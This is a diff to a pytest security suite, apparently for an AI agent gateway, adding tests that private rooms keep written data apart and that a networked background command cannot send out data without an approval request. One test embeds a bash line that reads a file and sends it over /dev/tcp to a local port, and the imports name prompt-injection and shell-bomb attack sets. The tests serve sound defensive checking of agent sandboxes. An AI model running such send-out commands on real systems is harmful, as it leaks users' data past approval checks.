@@ -11,15 +11,17 @@ from typing import Any, ParamSpec
 
 import pytest
 
+from gateway.core.facts import ApprovalRequested
 from tests.attacks.attacks_approvals import APPROVALS
-from tests.attacks.attacks_files import FILES
+from tests.attacks.attacks_files import FILES, shared
 from tests.attacks.attacks_permissions import RIGHTS
 from tests.attacks.attacks_private_rooms import ROOMS
 from tests.attacks.attacks_prompt_injection import WORDS
 from tests.attacks.attacks_shell import BOMBS, SHELL
 from tests.attacks.attacks_web import WEB
-from tests.attacks.hostile_kit import Attack, Fate, Town, town
+from tests.attacks.hostile_kit import ADAM, Attack, Fate, Scene, Town, town
 from tests.kits.shell import let_nobody_in
+from tests.kits.waiting import until
 
 pytestmark = pytest.mark.boxed
 
@@ -86,6 +88,60 @@ async def test_nothing_succeeds(tmp_path: Path, monkeypatch: pytest.MonkeyPatch)
 @story
 async def test_no_bomb_goes_off(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     await nothing_succeeds(tmp_path, monkeypatch, BOMBS)
+
+
+@story
+async def test_what_is_written_in_one_room_is_kept_from_the_others(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    await nothing_succeeds(tmp_path, monkeypatch, shared(twin=False))
+
+
+@story
+async def test_whoever_may_read_it_reads_it_unasked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    async with town(tmp_path, monkeypatch) as it:
+        twins = shared(twin=True)
+        fates = await suffered(it, twins)
+    assert not [f"{twin.name}: {fate.held[:300]}" for twin, fate in zip(twins, fates, strict=True) if not fate.won]
+
+
+@story
+async def test_a_command_with_network_sends_nothing_that_is_written_elsewhere_meanwhile(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The twin is in the same room: what is written there is sent unasked, at an admin's word."""
+    sends = (
+        "touch MARK-up; for n in $(seq 60); do x=$(cat MARK 2>/dev/null); [ $x ] && break; sleep 0.05; done; "
+        "exec 3<>/dev/tcp/127.0.0.1/PORT; printf 'GET /%s-MARK HTTP/1.0\\r\\n\\r\\n' $x >&3; cat <&3"
+    )
+    async with town(tmp_path, monkeypatch, bash={"network": True, "timeout": 10, "max_timeout": 20}) as it:
+
+        async def attempt(here: Scene, there: Scene, write: tuple[str, dict[str, object]]) -> tuple[str, str]:
+            command = sends.replace("MARK", here.mark).replace("PORT", str(it.inside.port))
+            begin = ("bash", {"command": command, "background": True})
+            while "may not run beside it" in await here.does(ADAM, begin):
+                await asyncio.sleep(0.1)
+            await until(here.file(f"{here.mark}-up").exists)
+            told = await there.does(ADAM, (write[0], {**write[1]}))
+            await until(lambda: any(one.path.endswith(here.mark) for one in it.inside.seen))
+            assert not await there.facts(ApprovalRequested, "approval_asked")
+            return told, next(one.path for one in it.inside.seen if one.path.endswith(here.mark))
+
+        def by_tool(here: Scene) -> tuple[str, dict[str, object]]:
+            return "write_file", {"path": here.mark, "text": "sesame"}
+
+        def by_command(here: Scene) -> tuple[str, dict[str, object]]:
+            return "bash", {"command": f"printf ses > n; printf ame >> n; mv n {here.mark}"}
+
+        for written in (by_tool, by_command):
+            here, there = it.scene(), it.scene(private=True)
+            told, sent = await attempt(here, there, written(here))
+            assert sent == f"/-{here.mark}", "nothing was there"
+            assert ("could send this out" in told) == (written is by_tool), told
+            assert here.file(here.mark).exists() == (written is by_command), "it waits until the job has ended"
+            twin = it.scene(private=True)
+            told, sent = await attempt(twin, twin, written(twin))
+            assert sent == f"/sesame-{twin.mark}", told
 
 
 def may_know(place: str, secret: str) -> bool:
